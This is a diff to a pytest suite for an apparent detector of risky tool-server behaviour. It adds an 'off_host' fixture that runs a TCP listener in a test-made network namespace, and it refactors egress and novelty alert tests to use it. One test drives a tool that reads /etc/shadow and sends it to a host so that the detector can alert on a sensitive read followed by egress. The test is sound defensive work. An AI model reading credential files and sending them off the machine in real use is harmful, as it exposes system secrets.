@@ -675,6 +675,26 @@ def test_a_steady_fast_client_does_not_alert(tmp_path):
 
 # --- novelty per server ----------------------------------------------------------------------------
 
+@pytest.fixture
+def off_host(netns):
+    """(address, port) of a TCP listener on a host off loopback: in a network namespace this test
+    made (network safety: nothing else is contacted)."""
+    import subprocess
+    name, _, ns_addr = netns
+    port = 18000 + os.getpid() % 1000
+    lst = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c",
+                            "import socket,sys; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
+                            "socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); "
+                            "print('ok', flush=True)\nwhile True: s.accept()[0].close()", ns_addr, str(port)],
+                           stdout=subprocess.PIPE, text=True)
+    try:
+        assert lst.stdout.readline().strip() == "ok"
+        yield ns_addr, port
+    finally:
+        lst.kill()
+        lst.wait()
+
+
 def test_a_servers_first_connects_after_its_calls_alert_per_destination(tmp_path):
     """A server whose 3 earlier calls never connected anywhere runs a tool that, on its first call,
     connects to 127.0.0.1 and 127.0.0.3: one alert per destination (per tool, there was no history)."""
@@ -713,28 +733,16 @@ def test_a_new_server_is_still_learning(tmp_path):
     assert not alerts(recs, "Server connected to a new destination")
 
 
-def test_a_servers_first_connection_beyond_loopback(tmp_path, netns):
+def test_a_servers_first_connection_beyond_loopback(tmp_path, off_host):
     """A connect to a host in a network namespace this test made (a private address): the server's
     first egress, alerted on its first call already; the second connect there is not a first."""
-    import subprocess
-    name, _, ns_addr = netns
-    port = 18000 + os.getpid() % 1000
-    lst = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c",
-                            "import socket,sys; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
-                            "socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); "
-                            "print('ok', flush=True)\nwhile True: s.accept()[0].close()", ns_addr, str(port)],
-                           stdout=subprocess.PIPE, text=True)
-    try:
-        assert lst.stdout.readline().strip() == "ok"
+    ns_addr, port = off_host
 
-        async def drive(c):
-            await c.call_tool("connect_all", {"targets": [f"{ns_addr}:{port}"]})
-            await c.call_tool("connect_all", {"targets": [f"{ns_addr}:{port}"]})
+    async def drive(c):
+        await c.call_tool("connect_all", {"targets": [f"{ns_addr}:{port}"]})
+        await c.call_tool("connect_all", {"targets": [f"{ns_addr}:{port}"]})
 
-        recs = run_session(tmp_path, "egress", "mw-egress", drive, rules_text="[]\n")
-    finally:
-        lst.kill()
-        lst.wait()
+    recs = run_session(tmp_path, "egress", "mw-egress", drive, rules_text="[]\n")
     got = alerts(recs, "Server's first connection beyond loopback")
     assert len(got) == 1 and got[0]["fields"]["novelty.destination"] == f"{ns_addr}:{port}", \
         [x["output"] for x in recs if x["type"] == "alert"]
@@ -764,21 +772,12 @@ def test_read_only_tools_that_write_or_run_are_caught(tmp_path):
         "Read-only tool wrote a file", "Read-only tool ran a program")}
 
 
-def test_closed_world_and_read_only_tools_connecting_off_the_host(tmp_path, netns):
+def test_closed_world_and_read_only_tools_connecting_off_the_host(tmp_path, off_host):
     """lookup declares openWorldHint: false and connects to a host in a network namespace this test
     made; to loopback it is left alone (the near miss)."""
-    import subprocess
-    name, _, ns_addr = netns
-    port = 19000 + os.getpid() % 1000
-    lst = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c",
-                            "import socket,sys; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
-                            "socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); "
-                            "print('ok', flush=True)\nwhile True: s.accept()[0].close()", ns_addr, str(port)],
-                           stdout=subprocess.PIPE, text=True)
+    ns_addr, port = off_host
     local = Listener("127.0.0.1")
     try:
-        assert lst.stdout.readline().strip() == "ok"
-
         async def drive(c):
             await c.list_tools()
             await c.call_tool("lookup", {"host": "127.0.0.1", "port": local.port})
@@ -786,8 +785,6 @@ def test_closed_world_and_read_only_tools_connecting_off_the_host(tmp_path, netn
 
         recs = run_session(tmp_path, "closed", "mw-closed", drive, rules_text="[]\n")
     finally:
-        lst.kill()
-        lst.wait()
         local.close()
     looks = calls(recs, "lookup")
     a = one_alert(recs, "Closed-world tool connected off the host", looks[1])
@@ -872,29 +869,18 @@ def test_a_new_tool_on_a_known_server(tmp_path):
 
 # --- chains within one call -------------------------------------------------------------------------
 
-def test_a_sensitive_read_then_egress_in_one_call(tmp_path, netns):
+def test_a_sensitive_read_then_egress_in_one_call(tmp_path, off_host):
     """read_then_send reads /etc/shadow, then connects to a host in a network namespace this test
     made: one alert naming both events. The same tool sending to loopback is the near miss."""
-    import subprocess
-    name, _, ns_addr = netns
-    port = 20000 + os.getpid() % 1000
-    lst = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c",
-                            "import socket,sys; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
-                            "socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); "
-                            "print('ok', flush=True)\nwhile True: s.accept()[0].close()", ns_addr, str(port)],
-                           stdout=subprocess.PIPE, text=True)
+    ns_addr, port = off_host
     local = Listener("127.0.0.1")
     try:
-        assert lst.stdout.readline().strip() == "ok"
-
         async def drive(c):
             await c.call_tool("read_then_send", {"path": "/etc/shadow", "target": f"127.0.0.1:{local.port}"})
             await c.call_tool("read_then_send", {"path": "/etc/shadow", "target": f"{ns_addr}:{port}"})
 
         recs = run_session(tmp_path, "chain", "mw-chain", drive, rules_text="[]\n")
     finally:
-        lst.kill()
-        lst.wait()
         local.close()
     sends = calls(recs, "read_then_send")
     got = alerts(recs, "Sensitive read then egress in one call")
